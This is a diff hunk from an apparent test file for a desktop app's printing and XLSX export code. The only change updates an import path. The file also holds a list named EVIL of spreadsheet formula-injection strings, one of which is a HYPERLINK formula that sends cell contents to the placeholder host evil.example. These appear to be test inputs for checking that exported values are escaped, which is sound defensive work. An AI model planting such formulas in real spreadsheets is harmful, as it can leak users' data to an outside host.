@@ -11,7 +11,7 @@ from test_print_support import NAMES, NFD_NAME, list_doc
 
 from desktop.printing.data import DailyReportData, IndicatorLine, NoShow, NothingToPrint, VillageLine
 from desktop.printing.village_list import sorted_rows
-from desktop.services.export_xlsx import list_xlsx, report_xlsx
+from desktop.services.documents.export_xlsx import list_xlsx, report_xlsx
 
 EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+1", "-2+3", "@SUM(A1:A2)", "=1+1"]
 
